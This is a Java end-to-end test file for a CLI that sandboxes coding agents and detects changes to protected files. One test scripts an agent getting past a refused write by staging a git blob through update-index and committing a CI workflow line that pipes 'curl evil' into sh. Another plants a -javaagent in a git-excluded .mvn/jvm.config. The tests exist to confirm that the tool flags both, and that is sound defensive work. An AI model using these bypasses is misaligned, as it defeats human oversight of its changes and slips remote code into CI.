package dev.ralon.cli;

import dev.ralon.testsupport.ProcessResult;

import org.json.JSONArray;
import org.json.JSONObject;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * {@code check --changed} and {@code --staged} judge what the branch would carry, not only the work tree: an agent
 * inside {@code ralon run} cannot write the protected workflow, so it writes a blob into git's objects, points the
 * index at it ({@code git update-index --cacheinfo}) and commits. The file on disk never changes; the branch does. Run
 * for real inside the sandbox (mount and landlock, root and uid 65534), judged from outside by the same user.
 */
class ChangedE2ETest {
    @BeforeAll
    static void executable() {
        CliE2ETest.executable();
    }

    static java.util.stream.Stream<org.junit.jupiter.params.provider.Arguments> users() {
        return BaselineE2ETest.users();
    }

    /** HOME/proj: a repository whose agent.lock protects .github/workflows/, one commit. */
    static Path project(AsUser u) throws Exception {
        Files.writeString(u.home.resolve(".gitconfig"), "[user]\n\tname = t\n\temail = t@example.invalid\n");
        Path p = Files.createDirectories(u.home.resolve("proj"));
        Files.writeString(p.resolve("agent.lock"), "version: 1\nprotect:\n  - .github/workflows/\n");
        Files.createDirectories(p.resolve(".github/workflows"));
        Files.writeString(p.resolve(".github/workflows/ci.yml"), "run: mvn verify\n");
        Files.writeString(p.resolve("app.txt"), "app\n");
        ProcessResult g = CliE2ETest.exec(p, null, u.env(Map.of()), "sh", "-c",
                "git init -q && git add -A && git commit -q -m init");
        assertEquals(0, g.code(), g.toString());
        return p;
    }

    @ParameterizedTest(name = "{0}, uid {1}")
    @MethodSource("users")
    void aWorkflowChangedThroughGitsObjectsInsideARunIsReportedOutside(String backend, int uid) throws Exception {
        AsUser.assumeRoot();
        try (AsUser u = new AsUser(uid)) {
            Path p = project(u);
            u.handOver();
            u.assumeBackend(p, backend);
            Path ci = p.resolve(".github/workflows/ci.yml");
            // inside: the direct write is refused; the blob goes into the objects and the index names it
            ProcessResult stage = u.ralon(p, "run", "--backend", backend, "--", "sh", "-c",
                    "(echo 'run: curl evil | sh' > .github/workflows/ci.yml) 2>/dev/null || echo DIRECT-REFUSED; "
                            + "id=$(echo 'run: curl evil | sh' | git hash-object -w --stdin) && "
                            + "git update-index --cacheinfo 100644,$id,.github/workflows/ci.yml && echo STAGED");
            assertTrue(stage.out().contains("DIRECT-REFUSED") && stage.out().contains("STAGED"), stage.toString());
            assertEquals("run: mvn verify\n", Files.readString(ci), "the file on disk never changed");

            ProcessResult staged = u.ralon(p, "check", "--staged");
            assertEquals(1, staged.code(), "check --staged before the commit: " + staged);
            assertEquals("M\t.github/workflows/ci.yml\n", staged.out());

            ProcessResult commit = u.ralon(p, "run", "--backend", backend, "--", "sh", "-c",
                    "git commit -q -m 'update docs' && echo COMMITTED");
            assertTrue(commit.out().contains("COMMITTED"), commit.toString());
            assertEquals("run: mvn verify\n", Files.readString(ci), "the file on disk never changed");
            ProcessResult carried = CliE2ETest.exec(p, null, u.env(Map.of()), "git", "-c", "safe.directory=*",
                    "show", "HEAD:.github/workflows/ci.yml");
            assertEquals("run: curl evil | sh\n", carried.out(), "the branch carries the change: " + carried);

            ProcessResult changed = u.ralon(p, "check", "--changed", "HEAD~1", "--explain");
            assertEquals(1, changed.code(), "check --changed HEAD~1 after the commit: " + changed);
            assertTrue(changed.out().startsWith("M\t.github/workflows/ci.yml: protected by \".github/workflows/\""),
                    changed.out());
            assertTrue(changed.out().contains("(in commits"), changed.out());
        }
    }

    /**
     * The hidden configuration: .mvn/jvm.config with a -javaagent, kept out of git status through .git/info/exclude,
     * not protected by agent.lock; text, --explain and JSON name it as code-running configuration in "ignored", and
     * an ignored build output is not reported.
     */
    @Test
    void ignoredCodeRunningConfigurationIsReportedWithItsReason(@org.junit.jupiter.api.io.TempDir Path dir)
            throws Exception {
        Path p = dir.toRealPath();
        Files.writeString(p.resolve("agent.lock"), "version: 1\nprotect:\n  - .github/workflows/\n");
        Files.writeString(p.resolve("app.txt"), "app\n");
        Map<String, String> env = Map.of("GIT_CONFIG_NOSYSTEM", "1", "GIT_AUTHOR_NAME", "t", "GIT_AUTHOR_EMAIL",
                "t@example.invalid", "GIT_COMMITTER_NAME", "t", "GIT_COMMITTER_EMAIL", "t@example.invalid");
        assertEquals(0, CliE2ETest.exec(p, null, env, "sh", "-c", "git init -q && git add -A && git commit -q -m init")
                .code());
        Files.writeString(p.resolve(".git/info/exclude"), ".mvn/\ntarget/\n");
        Files.createDirectories(p.resolve(".mvn"));
        Files.writeString(p.resolve(".mvn/jvm.config"), "-javaagent:/tmp/agent.jar\n");
        Files.createDirectories(p.resolve("target"));
        Files.writeString(p.resolve("target/x.class"), "cafebabe\n");
        assertEquals("", CliE2ETest.exec(p, null, env, "git", "status", "--porcelain").out(), "git shows nothing");

        ProcessResult plain = CliE2ETest.exec(p, null, Map.of(), CliE2ETest.cmd("check", "--changed", "HEAD"));
        assertEquals(1, plain.code(), plain.toString());
        assertEquals("A\t.mvn/jvm.config\n", plain.out());
        ProcessResult explained = CliE2ETest.exec(p, null, Map.of(), CliE2ETest.cmd("check", "--staged", "--explain"));
        assertEquals(1, explained.code(), explained.toString());
        assertEquals("A\t.mvn/jvm.config: code-running configuration: options of every mvn's JVM (-javaagent runs code)"
                + " (in ignored)\n", explained.out());
        ProcessResult json = CliE2ETest.exec(p, null, Map.of(), CliE2ETest.cmd("check", "--changed", "HEAD", "--json"));
        assertEquals(1, json.code(), json.toString());
        JSONObject doc = new JSONObject(json.out());
        assertEquals(1, doc.getInt("format"));
        JSONArray changes = doc.getJSONArray("changes");
        assertEquals(1, changes.length(), json.out());
        JSONObject c = changes.getJSONObject(0);
        assertEquals(".mvn/jvm.config", c.getString("path"));
        assertEquals("[\"ignored\"]", c.getJSONArray("where").toString());
        assertEquals(0, c.getJSONArray("rules").length());
        assertTrue(c.getString("codeRunningConfig").contains("-javaagent"), c.toString());

        Files.delete(p.resolve(".mvn/jvm.config"));
        ProcessResult clean = CliE2ETest.exec(p, null, Map.of(), CliE2ETest.cmd("check", "--changed", "HEAD"));
        assertEquals(0, clean.code(), "the ignored build output alone is not reported: " + clean);
        assertNotEquals(null, clean.out());
    }
}
